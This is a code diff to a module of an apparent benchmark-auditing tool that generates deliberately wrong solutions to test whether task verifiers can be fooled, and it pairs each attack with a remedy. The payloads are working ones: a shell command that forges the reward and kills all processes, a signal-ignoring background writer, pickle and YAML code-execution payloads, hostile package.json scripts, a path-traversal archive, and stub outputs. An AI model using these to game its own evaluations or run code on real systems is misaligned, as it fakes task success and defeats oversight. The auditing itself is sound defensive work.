@@ -4,21 +4,23 @@ Each attack is a solution that is wrong by construction. Those that forge a verd
 for; those that imitate a solution write its files with a content that cannot be right.
 """
 
-import ast
 import difflib
 import json
 import re
 import shlex
-from collections.abc import Iterable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from contextlib import suppress
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 from functools import partial
 from pathlib import PurePosixPath
 
+from plaudit.audit.attacks.patterns import examples_of
 from plaudit.findings import Severity
-from plaudit.harbor.audit.mutants import read_members
+from plaudit.harbor.audit.hiding import hidden_in
+from plaudit.harbor.audit.mutants import write_members
 from plaudit.harbor.audit.products import Product, Products
 from plaudit.harbor.audit.surface import MOST_FOLDERS, Surface
+from plaudit.harbor.audit.tampering import SUMS, Tampering
 from plaudit.harbor.task import Task
 from plaudit.harbor.trial import Solution
 
@@ -30,12 +32,15 @@ FORGE = f"{{ {WRITE} && kill -9 -1; }} 2>/dev/null; exit 0"
 """Write the reward and kill the verifier, if permissions allow it; report success otherwise."""
 _ARGUMENTS = json.dumps(["sh", "-c", FORGE])
 PYTHON = f"__import__('posix').execv('/bin/sh', {_ARGUMENTS})\n"
+PICKLE = b"cposix\nsystem\n(V%s\ntR." % FORGE.encode("unicode_escape")
+YAML = f"!!python/object/apply:os.system [{json.dumps(FORGE)}]\n"
 # What forges the verdict in place of a file, by the end of its name; nothing in data, otherwise a shell script.
 HOSTILE = {
     ("pytest.toml",): "[pytest]\naddopts = ['--collect-only']\n",
     ("pytest.ini", "tox.ini"): "[pytest]\naddopts = --collect-only\n",
     ("setup.cfg",): "[tool:pytest]\naddopts = --collect-only\n",
     ("pyproject.toml",): "[tool.pytest.ini_options]\naddopts = '--collect-only'\n",
+    ("package.json",): json.dumps({"name": "a", "scripts": dict.fromkeys(("test", "start", "build"), FORGE)}),
     ("akefile", ".mk"): f"all:\n\t@{FORGE}\n%:\n\t@{FORGE}\n",
     (".py",): PYTHON,
     (".pl", ".pm"): f"BEGIN {{ exec {{'/bin/sh'}} {_ARGUMENTS[1:-1]} }}\n1;\n",
@@ -44,8 +49,7 @@ HOSTILE = {
     (".toml", ".ini", ".cfg", ".json", ".yaml", ".yml", ".xml", ".txt", ".csv"): "",
 }  # fmt: skip
 SCRIPT = f"#!/bin/sh\n{FORGE}\n"
-MOST_PLANTED, MOST_LINKS, MOST_COMPARED = 600, 6, 1 << 14
-SUMS = ("sha256sum", "sha1sum", "md5sum", "sha512sum")
+MOST_PLANTED, MOST_LINKS, MOST_UP, MOST_COMPARED = 600, 6, 8, 1 << 14
 _LITERAL = re.compile(r"\"((?:[^\"\\\n]|\\.)*)\"|'((?:[^'\\\n]|\\.)*)'")
 _INNER = re.compile(r"'([^'\n]+)'")  # also within double quotes
 _GREP = re.compile(r"\bgrep\s+(?:-\S+\s+)*([^\s'\"]+)")
@@ -83,9 +87,15 @@ class Seen:
     files: dict[str, bytes]
     """Those of the image."""
     results: list[str]
-    """What the solution gives for data of the image."""
+    """What the solution gives for data of the image, as Python literals."""
     answering: list[bytes | None]
     """For each required product, a program that gives the results which the instruction shows."""
+    shown: list[str] = field(default_factory=list)
+    """Values that the instruction shows, first those that the solution gives."""
+    usual: list[str] = field(default_factory=list)
+    """Its most frequent results, where it has several."""
+    wrong: dict[str, bytes] = field(default_factory=dict)
+    """Results of the right form that the verifier rejects."""
 
 
 def all_attacks(task: Task, mode: str, products: Products, surface: Surface, seen: Seen) -> list[Attack]:
@@ -94,8 +104,7 @@ def all_attacks(task: Task, mode: str, products: Products, surface: Surface, see
     return [
         *_in_advance(),
         *_replacements(products, surface),
-        *_forged_state(tests, surface),
-        *_rewritten_references(tests, products, surface),
+        *_tampered(tests, products, surface, seen),
         *(_links(task, products, surface) if mode == "shared" else []),
         *_evaluated(products),
         *_leaks(task, products, seen.files),
@@ -106,7 +115,8 @@ def all_attacks(task: Task, mode: str, products: Products, surface: Surface, see
 def _in_advance() -> Iterator[Attack]:
     yield Attack("forged reward file", Solution("reward files written in advance", command=WRITE), MODE_REMEDY)
     draft, reward = "/logs/verifier/.draft", "/logs/verifier/reward.json"  # moved, so that no reader sees half a file
-    loop = f"while :; do echo '{{\"reward\": 1.0}}' > {draft}; mv -f {draft} {reward}; done 2>/dev/null"
+    write = f"echo '{{\"reward\": 1.0}}' > {draft}; mv -f {draft} {reward}"
+    loop = f"trap '' HUP INT TERM; while :; do {write}; done 2>/dev/null"
     command = f"nohup setsid bash -c {shlex.quote(loop)} >/dev/null 2>&1 &"
     yield Attack(
         "surviving process", Solution("a process that goes on writing the reward", command=command), MODE_REMEDY
@@ -154,29 +164,15 @@ def _write(text: str, paths: Iterable[str]) -> str:
     return f"PATH=/usr/bin:/bin; for p in {listed}; do {write}; done 2>/dev/null"
 
 
-def _forged_state(tests: str, surface: Surface) -> Iterator[Attack]:
-    """Files that the verifier looks for, written by the agent."""
-    for text in ("1\n", "PASS\n", "".join(f"{each}\n" for each in _literals(tests)) * MOST_COUNTED):
-        if surface.missing:
-            name = f"{text[:40].strip()!r} in {', '.join(surface.missing)[:200]}"
-            remedy = "keep results in shell variables, or in a folder made by test.sh"
-            yield Attack("forged reward file", Solution(name, command=_write(text, surface.missing)), remedy)
-
-
-def _rewritten_references(tests: str, products: Products, surface: Surface) -> Iterator[Attack]:
-    """Files of the image that the verifier reads, rewritten to agree with results that are wrong."""
-    results, references = [each.path for each in products.required], surface.existing
-    if not results or not references:
-        return
-    wrong = dict.fromkeys(results, f"{JUNK}\n".encode())
-    quoted = " ".join(map(shlex.quote, results))
-    rewritings = {"emptied": ": > $f", "made equal to the result": f"cat {quoted} > $f"}
-    if sums := [word for word in SUMS if word in tests]:
-        rewritings["made the sums of the results"] = f'cd $(dirname $f); {sums[0]} {quoted} | sed "s, $PWD/, ," > $f'
-    for name, rewrite in rewritings.items():
-        command = f"for f in {' '.join(map(shlex.quote, references))}; do ({rewrite}); done 2>/dev/null; true"
-        remedy = "read references and checkers from /tests, where the agent cannot write"
-        yield Attack("forged reward file", Solution(f"{', '.join(references)} {name}", wrong, command), remedy)
+def _tampered(tests: str, products: Products, surface: Surface, seen: Seen) -> Iterator[Attack]:
+    """Files that the verifier reads with other contents, beside results that it rejects by themselves."""
+    sums = [word for word in SUMS if word in tests]
+    remedy = "read references, settings and results of checks from /tests, or from a folder that test.sh makes"
+    right = {each.path: each.content for each in products.required}
+    words = _literals(tests) * MOST_COUNTED
+    for name, files in Tampering(right, seen.wrong, seen.files, words, sums).variants(surface):
+        touch = f"sleep 0.01; touch -c {' '.join(map(shlex.quote, files))} 2>/dev/null; true"  # newer than the results
+        yield Attack("forged reward file", Solution(name, {**seen.wrong, **files}, touch), remedy)
 
 
 def _links(task: Task, products: Products, surface: Surface) -> Iterator[Attack]:
@@ -207,18 +203,25 @@ def _links(task: Task, products: Products, surface: Surface) -> Iterator[Attack]
 
 def _evaluated(products: Products) -> Iterator[Attack]:
     """Code in place of results: of data, of settings that are sourced, of a program that is imported."""
-    parse = "parse results (json, ast.literal_eval, float); never evaluate them"
+    parse = "parse results (json, ast.literal_eval, float); never evaluate or unpickle them"
     read = "read settings as text, or run the script in a process of its own"
     divide = "run the submission in a process of its own as another user, and decide by its output"
     script = f'#!/bin/bash\n[ "$0" = "$BASH_SOURCE" ] && exit 1\n{FORGE}\n'
-    for name, languages, text, remedy, severity in (
-        ("code in place of a result", ("text", "json"), PYTHON, parse, Severity.ERROR),
-        ("a sourced script that ends the verifier", ("shell",), script, read, Severity.ERROR),
-        ("a submission that writes the reward and exits", ("python",), PYTHON, divide, Severity.WARNING),
+    for name, languages, code, remedy, severity in (
+        ("code in place of a result", ("text", "json"), PYTHON.encode(), parse, Severity.ERROR),
+        ("YAML that runs code", ("text",), YAML.encode(), parse, Severity.ERROR),
+        ("a pickle that runs code", ("binary",), PICKLE, parse, Severity.ERROR),
+        ("a sourced script that ends the verifier", ("shell",), script.encode(), read, Severity.ERROR),
+        ("a submission that writes the reward and exits", ("python",), PYTHON.encode(), divide, Severity.WARNING),
     ):
         if products.required and all(each.language in languages for each in products.required):
-            files = dict.fromkeys((each.path for each in products.required), text.encode())
+            files = dict.fromkeys((each.path for each in products.required), code)
             yield Attack("verifier's rights", Solution(name, files), remedy, severity)
+    if products.required and all(each.language == "archive" for each in products.required):
+        outside = {f"{'../' * up}logs/verifier/reward.json": b'{"reward": 1.0}' for up in range(1, MOST_UP)}
+        files = {each.path: write_members(each.content, outside) for each in products.required}
+        remedy = "extract archives with a filter: tarfile's data_filter, or as another user"
+        yield Attack("verifier's rights", Solution("an archive that writes outside its folder", files), remedy)
 
 
 def _leaks(task: Task, products: Products, image_files: dict[str, bytes]) -> Iterator[Attack]:
@@ -240,9 +243,7 @@ def _leaks(task: Task, products: Products, image_files: dict[str, bytes]) -> Ite
     for name, command in commands.items():
         yield Attack("answer in the image", Solution(name, command=command), remedy)
     packed = {
-        f"{name} in {path}": text
-        for path, content in image_files.items()
-        for name, text in read_members(content).items()
+        f"{name} in {path}": text for path, content in image_files.items() for name, text in hidden_in(content).items()
     }
     copies = {
         each.path: (path, content)
@@ -280,43 +281,33 @@ def _imitations(task: Task, tests: str, products: Products, seen: Seen) -> Itera
     required, literals = products.required, _literals(tests)
     if not required:
         return
-    files = {"stub solution": {"empty files": [b""] * len(required)}, "hard-coded output": {}, "grep-based result": {}}
-    constants = {"stub solution": ["None", "0", "1", "True", "''", "[]"]}
-    if all(each.reads_input for each in required):
-        constants["hard-coded output"] = list(dict.fromkeys([*seen.results, *_visible_constants(task.instruction)]))
-    for kind, constant in ((kind, constant) for kind, listed in constants.items() for constant in listed):
-        stubs = [stub for each in required if (stub := each.with_constant(constant)) is not None]
-        if len(stubs) == len(required) and stubs != [each.content for each in required]:
-            files[kind][f"programs that give {constant}"] = stubs
-    answering = [each for each in seen.answering if each is not None]
-    if len(answering) == len(required):
-        files["hard-coded output"]["programs that give the shown results only"] = answering
+    visible = [*seen.results, *seen.shown] if all(each.reads_input for each in required) else []
+    answering = dict(zip((each.path for each in required), seen.answering, strict=False))
+    constants = [
+        *(("stub solution", each) for each in ("None", "0", "1", "True", "''", "[]")),
+        *(("hard-coded output", each) for each in visible),
+        *(("stub solution", each) for each in seen.usual),
+    ]
+    makers: list[tuple[str, str, Callable[[Product], bytes | None]]] = [
+        ("stub solution", "empty files", lambda _: b""),
+        *(
+            (kind, f"programs that give {each}", partial(Product.with_constant, constant=each))
+            for kind, each in constants
+        ),
+        ("stub solution", "programs that give back what they get", Product.echoing),
+        ("stub solution", "other numbers in the same form", partial(Product.disguised, instruction=task.instruction)),
+        ("hard-coded output", "programs that give the shown results only", lambda each: answering.get(each.path)),
+    ]
     if literals:
-        stuffed = [each.stuffed(JUNK, literals * MOST_COUNTED) for each in required]
-        files["grep-based result"]["files with every text that the tests look for"] = stuffed
-    for kind, versions in files.items():
-        for name, contents in versions.items():
+        every = partial(Product.stuffed, junk=JUNK, literals=literals * MOST_COUNTED)
+        makers.append(("grep-based result", "files with every text that the tests look for", every))
+    tried = [[each.content for each in required]]
+    for kind, name, maker in makers:
+        contents = [content for each in required if (content := maker(each)) is not None]
+        if len(contents) == len(required) and contents not in tried:
+            tried.append(contents)
             solution = Solution(name, dict(zip((each.path for each in required), contents, strict=True)))
             yield Attack(kind, solution, IMITATED[kind])
-
-
-def _visible_constants(instruction: str) -> list[str]:
-    """Values that an instruction shows, as Python literals."""
-    shown = re.findall(
-        r"`([^`\n]{1,60})`|(?:->|=>|→|returns?|prints?|outputs?|gives?|==?)\s+(-?\d+(?:\.\d+)?|\"[^\"\n]*\"|'[^'\n]*'|\[[^\]\n]*\])",
-        instruction,
-    )
-    constants = []
-    for text in (first or second for first, second in shown):
-        try:
-            constants.append(repr(ast.literal_eval(text.strip())))
-        except (ValueError, SyntaxError):
-            if re.fullmatch(r"[\w .,!-]{1,40}", text) and not re.search(r"[/()]", text):
-                constants.append(repr(text))
-    for block in re.findall(r"```\w*\n(.*?)```", instruction, re.DOTALL):
-        lines = [line.strip() for line in block.splitlines() if line.strip()]
-        constants += [repr(text) for text in (*lines[-2:], block.strip())]
-    return list(dict.fromkeys(constants))[:6]
 
 
 def _literals(tests: str) -> list[str]:
@@ -328,7 +319,8 @@ def _literals(tests: str) -> list[str]:
         for text in texts
         if 1 < len(text) <= 80 and not text.startswith(("/", "-", "$")) and "\\n" not in text
     ]
-    return list(dict.fromkeys(plain))[:60]
+    matching = [each.text for text in plain for each in examples_of(text, "a")]
+    return list(dict.fromkeys([*plain, *(re.sub(r"\\(.)", r"\1", text) for text in plain), *matching]))[:80]
 
 
 def test_texts(task: Task) -> str:
